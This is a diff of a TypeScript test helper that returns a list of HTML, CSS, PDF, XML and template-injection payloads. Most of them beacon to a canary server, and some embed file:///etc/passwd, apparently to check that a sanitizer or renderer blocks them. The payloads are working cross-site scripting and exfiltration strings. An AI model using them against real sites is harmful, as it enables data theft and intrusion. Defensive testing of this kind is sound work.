@@ -1,11 +1,18 @@
-/** Words that would do harm if anything took them for more than words. `canary` is a server that must hear nothing. */
-export function attacksOn(canary: string): readonly string[] {
-  const file = 'file:///etc/passwd';
+/** What a script of an attack would add to the page. */
+export const TRACE = 'a script ran';
+
+/**
+ * Words that would do harm if anything took them for more than words. `canary` is a server that must hear nothing, `file`
+ * the address of a file that must not be read.
+ */
+export function attacksOn(canary: string, file = 'file:///etc/passwd'): readonly string[] {
+  // Put together by the script alone, so that its words are not taken for its work.
+  const script = `document.documentElement.append('a script'+' ran')`;
   return [
     `<script>fetch('${canary}/1')</script>`,
     `"><script src=${canary}/2></script>`,
     `</script></style></title><script>new Image().src='${canary}/3'</script>`,
-    `<img src=${canary}/4 onerror=alert(1)>`,
+    `<img src=${canary}/4 onerror="${script}">`,
     `' onload='fetch("${canary}/5")' x='`,
     `" style="background:url(${canary}/6)" x="`,
     `<iframe src=${file}></iframe>`,
@@ -24,11 +31,22 @@ export function attacksOn(canary: string): readonly string[] {
     `<meta http-equiv=refresh content="0;url=${canary}/19">`,
     `<base href=${canary}/20/><a ping=${canary}/21 href=x>`,
     `<video poster=${canary}/22><source src=${canary}/23></video>`,
-    `<form action=${canary}/24><input autofocus onfocus=alert(1)></form>`,
+    `<form action=${canary}/24><input autofocus onfocus="${script}"></form>`,
     `&lt;script&gt;fetch('${canary}/25')&lt;/script&gt;&#60;img src=${canary}/26&#62;`,
     `]]></rdf:li><x:import href="${file}"/><rdf:li>`,
     `) /JavaScript (app.alert(1)) endobj /URI (${canary}/27`,
     `${'\\'}) >> /OpenAction << /S /URI /URI (${canary}/28) >>`,
+    `<script>${script}</script>`,
+    `"><svg onload="${script}"><animate onbegin="${script}" attributeName=x dur=1s>`,
+    `<style>@import '${canary}/33';@namespace url(${canary}/34);p{background:url(${canary}/35)}</style>`,
+    `"></style><style>*{background:url(${canary}/36);cursor:url(${canary}/37),auto}</style>`,
+    `<link rel="shortcut icon" href=${canary}/39><link rel=modulepreload href=${canary}/52>`,
+    `<audio src=${canary}/53 autoplay></audio><input type=image src=${canary}/54>`,
+    `<picture><source srcset=${canary}/55><img></picture>`,
+    `"><iframe src=${file}></iframe>`,
+    `<iframe src="javascript:fetch('${canary}/57')"></iframe>`,
+    `<iframe src="data:text/html,<img src=${canary}/58>"></iframe>`,
+    `<style>@import '${file}';</style><img src=${file}>`,
     `{{constructor.constructor('return process')()}}\${7*7}<%= 7*7 %>`,
   ];
 }
